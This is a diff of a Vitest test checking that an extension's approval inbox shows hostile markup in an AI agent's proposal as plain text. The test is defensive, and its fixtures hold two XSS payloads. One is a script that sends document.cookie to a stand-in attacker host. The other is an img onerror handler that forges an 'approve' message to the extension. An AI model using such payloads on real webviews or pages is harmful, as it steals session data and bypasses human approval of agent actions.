@@ -1,18 +1,18 @@
+// @vitest-environment happy-dom
 /**
  * A proposal is the agent's text, and the agent may have read a hostile web page or email: the
  * approval inbox's inline diff must show markup in a proposal as the characters it is, never run
  * or render it. The diff is computed by the host's real code and drawn by the webview's real code
- * into a document that has no HTML parser (innerHTML and its kin throw); and no webview script
- * hands text to an HTML parser anywhere.
+ * into a real DOM (happy-dom, which parses HTML, so markup that reached a parser would be
+ * elements); and no webview script hands text to an HTML parser anywhere.
  */
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { afterAll, beforeAll, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
 import type { HostToInboxMessage, Proposal } from '@keel/schemas';
 import { inboxDiffKey } from '../../extension/src/approvals/inboxModel';
 import { proposalDiff } from '../../extension/src/approvals/proposalDiff';
 import { InlineDiffs } from '../../extension/src/approvals/webview/inlineDiff';
-import { installFakeDocument, type FakeElement } from '../helpers/fakeDom';
 
 const SCRIPT = '<script>fetch("https://evil.example/?k="+document.cookie)</script>';
 const IMAGE = "<img src=x onerror=\"acquireVsCodeApi().postMessage({type:'approve',id:'p1'})\">";
@@ -33,12 +33,6 @@ const hostile: Proposal = {
   decision: null,
 };
 
-let restore: () => void;
-beforeAll(() => {
-  restore = installFakeDocument();
-});
-afterAll(() => restore());
-
 it('shows HTML and script in a proposed file as text, never as elements', () => {
   const asked: string[] = [];
   const diffs = new InlineDiffs(
@@ -54,16 +48,17 @@ it('shows HTML and script in a proposed file as text, never as elements', () => 
   expect(asked).toEqual(['p1']);
   expect(diffs.receive(answer, hostile)).toBe(true);
 
-  const view = diffs.view(hostile) as unknown as FakeElement;
-  const added = view.byClass('diff-line', 'added').map((line) => line.byClass('diff-text')[0]!.textContent);
+  const view = diffs.view(hostile);
+  const added = Array.from(view.querySelectorAll('.diff-line.added .diff-text')).map(
+    (line) => line.textContent,
+  );
   expect(added).toEqual([SCRIPT, IMAGE]);
-  expect(view.byClass('diff-line', 'removed')[0]!.textContent).toContain('<i>old</i>');
-  expect(view.byClass('file-diff-path')[0]!.textContent).toContain(PATH);
+  expect(view.querySelector('.diff-line.removed')?.textContent).toContain('<i>old</i>');
+  expect(view.querySelector('.file-diff-path')?.textContent).toContain(PATH);
   // Only the elements the inbox itself draws: nothing the proposal's text named.
-  const tags = new Set(view.descendants().map((e) => e.tagName));
-  for (const tag of ['SCRIPT', 'IMG', 'B', 'I', 'IFRAME']) expect(tags).not.toContain(tag);
-  for (const element of view.descendants()) {
-    expect([...element.attributes.keys()].filter((name) => name.startsWith('on'))).toEqual([]);
+  expect(view.querySelectorAll('script, img, b, i, iframe')).toHaveLength(0);
+  for (const element of Array.from(view.querySelectorAll('*'))) {
+    expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([]);
   }
 });
 
@@ -73,9 +68,9 @@ it('shows a diff that could not be computed with its message as text', () => {
     () => undefined,
   );
   diffs.receive({ type: 'diffError', key: inboxDiffKey(hostile), message: SCRIPT }, hostile);
-  const view = diffs.view(hostile) as unknown as FakeElement;
-  expect(view.byClass('error')[0]!.textContent).toBe(`The diff could not be shown: ${SCRIPT}`);
-  expect(view.descendants().some((e) => e.tagName === 'SCRIPT')).toBe(false);
+  const view = diffs.view(hostile);
+  expect(view.querySelector('.error')?.textContent).toBe(`The diff could not be shown: ${SCRIPT}`);
+  expect(view.querySelectorAll('script')).toHaveLength(0);
 });
 
 it('has no webview script that hands text to an HTML parser', async () => {
